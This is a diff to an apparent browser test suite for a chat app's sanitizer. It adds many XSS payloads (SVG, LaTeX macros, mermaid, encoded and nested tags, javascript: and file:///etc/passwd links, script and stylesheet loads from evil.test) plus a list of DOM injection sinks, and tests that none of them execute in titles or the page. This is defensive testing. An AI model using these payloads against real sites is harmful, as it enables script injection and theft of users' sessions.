@@ -54,6 +54,61 @@ const ATTACKS = [
   "[^1]\n\n[^1]: <img src=x onerror=window.hit=23>",
   '[a](https://evil.test/"onmouseover="window.hit=24)',
   "\u202Egnp.exe <img src=x onerror=window.hit=25>",
+  // SVG, as a picture, inline and in code.
+  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5oaXQ9MzAiLz4=)",
+  '<svg><use href="data:image/svg+xml,<svg id=a onload=window.hit=31>#a"></use></svg>',
+  '<svg><a xlink:href="javascript:window.hit=32"><text y=20>click</text></a></svg>',
+  "<svg><foreignObject><iframe srcdoc='<script>parent.hit=33</script>'></iframe></foreignObject></svg>",
+  '<svg><image href="https://evil.test/inline.png"/><feImage href="https://evil.test/filter.png"/></svg>',
+  '<svg><set attributeName="href" to="javascript:window.hit=34"/></svg>',
+  "<svg><style>@import url(https://evil.test/svg.css)</style></svg>",
+  '```svg\n<svg xmlns="http://www.w3.org/2000/svg" onload="window.hit=35"/>\n```',
+  '```mermaid\ngraph TD; A["<img src=x onerror=window.hit=36>"]; click A "javascript:window.hit=36"\n```',
+  // LaTeX that makes links, attributes, pictures, macros, or leaves its own box.
+  "$\\url{javascript:window.hit=40}$ \\(\\href{data:text/html,<script>parent.hit=41</script>}{x}\\)",
+  '$$\\href{https://evil.test/\\"onmouseover=\\"window.hit=42}{x}$$',
+  '$$\\htmlClass{x" onclick="window.hit=43}{y} \\htmlData{a=" onclick="window.hit=44}{z}$$',
+  "$$\\text{<img src=x onerror=window.hit=45>} \\verb|<script>window.hit=46</script>|$$",
+  "$$\\textcolor{red;background:url(https://evil.test/colour)}{x}$$",
+  '$$\\color{#fff" onload="window.hit=47}x$$',
+  "$$\\newcommand{\\x}{<svg onload=window.hit=48>}\\x$$",
+  "$$\\unicode{x3c}img src=x onerror=window.hit=49\\unicode{x3e}$$",
+  "$$\\rule{99999em}{99999em}\\kern{-99999em}$$",
+  "$$\n</math><img src=x onerror=window.hit=50>\n$$",
+  // Entities, encodings and odd tags, in the order in which filters have fallen for them.
+  "&lt;img src=x onerror=window.hit=51&gt; &#60;script&#62;window.hit=52&#60;/script&#62;",
+  "<scr<script>ipt>window.hit=53</scr</script>ipt>",
+  "<img/src=x/onerror=window.hit=54//>",
+  "<IMG SRC=x OnErRoR=window.hit=55>",
+  "<img src=x\u000conerror=window.hit=56>",
+  "<x-custom onpointerenter=window.hit=57 style=display:block>x</x-custom>",
+  "<template><img src=x onerror=window.hit=58></template>",
+  "<textarea><img src=x onerror=window.hit=59></textarea><title><img src=x onerror=window.hit=59></title>",
+  "<!--><img src=x onerror=window.hit=60>--><![CDATA[<img src=x onerror=window.hit=60>]]>",
+  "<portal src=https://evil.test/portal></portal><fencedframe src=https://evil.test/f></fencedframe>",
+  '<link rel="preconnect dns-prefetch" href="https://evil.test/dns">',
+  '<meta http-equiv="Content-Security-Policy" content="script-src *"><script src=https://evil.test/s.js></script>',
+  "[click]( javascript:window.hit=61 ) [click](\u0001javascript:window.hit=62) [click](JaVaScRiPt:window.hit=63)",
+  "[click](blob:https://evil.test/1) [click](file:///etc/passwd) [click](filesystem:x) [click](//evil.test)",
+  '[ref]: javascript:window.hit=64 "t"\n\n[ref] ![ref]',
+  "<javascript:window.hit=65> www.evil.test/auto mailto:a@evil.test?body=<script>",
+  "**<img src=x onerror=window.hit=66>** ~~<svg onload=window.hit=66>~~ [<img src=x onerror=window.hit=66>](https://evil.test)",
+  "# <img src=x onerror=window.hit=67>\n\n> <img src=x onerror=window.hit=67>\n\n1. <svg onload=window.hit=67>",
+];
+
+/** All ways in which a page makes markup or script of text. */
+const SINKS = [
+  "document.createElement('div').innerHTML = '<b></b>'",
+  "document.body.outerHTML = '<b></b>'",
+  "document.body.insertAdjacentHTML('beforeend', '<b></b>')",
+  "document.write('<b></b>')",
+  "document.createElement('script').text = 'hit = 1'",
+  "document.createElement('script').src = 'https://evil.test/'",
+  "document.createElement('iframe').srcdoc = '<b></b>'",
+  "new DOMParser().parseFromString('<b></b>', 'text/html')",
+  "document.createRange().createContextualFragment('<b></b>')",
+  "new Worker('/worker.js')",
+  "trustedTypes.createPolicy('mine', {})",
 ];
 
 declare global {
@@ -118,6 +173,43 @@ test("one by one, so that none hides behind another's unclosed tag", async () =>
   expect(await page.evaluate(() => globalThis.hit)).toBeUndefined();
   expectClean(watched);
   await watched.close();
+});
+
+test("in titles, each of them, in the list and in the name of the window", async () => {
+  await using server = await serve({ script: { reply: () => "" } });
+  const base = `${server.url}/api/conversations`;
+  const send = async (method: string, path: string, body: object) => {
+    const response = await fetch(path, { method, body: JSON.stringify(body) });
+    return { status: response.status, body: (await response.json()) as { id: string } };
+  };
+  let last = "";
+  for (const attack of ATTACKS) {
+    const { body } = await send("POST", base, {});
+    // A title is one short line; what is longer is refused and could not be one.
+    const title = attack.replace(/[\0\n]/g, " ").slice(0, 100);
+    const { status } = await send("PATCH", `${base}/${body.id}`, { title });
+    expect(status).toBe(200);
+    last = body.id;
+  }
+  const watched = await open(`${server.url}/c/${last}`);
+  const { page } = watched;
+  const links = page.locator("aside a");
+  await expect.poll(() => links.count()).toBeGreaterThan(ATTACKS.length / 2);
+  for (const link of await links.all()) await link.dispatchEvent("mouseover");
+  expect(await page.title()).toContain("<img src=x onerror=window.hit=67>");
+  expect(await page.locator("img, iframe, form[action]").count()).toBe(0);
+  expect(await page.evaluate(() => globalThis.hit)).toBeUndefined();
+  expectClean(watched);
+  await watched.close();
+});
+
+test("the page makes no markup of text, whoever asks it to (Trusted Types)", async () => {
+  await using server = await serve();
+  const { page, close } = await open(server.url);
+  for (const sink of SINKS) {
+    await expect(page.evaluate(sink), sink).rejects.toThrow(/Trusted|disallowed/i);
+  }
+  await close();
 });
 
 test("in titles, searches and the names of files and models", async () => {
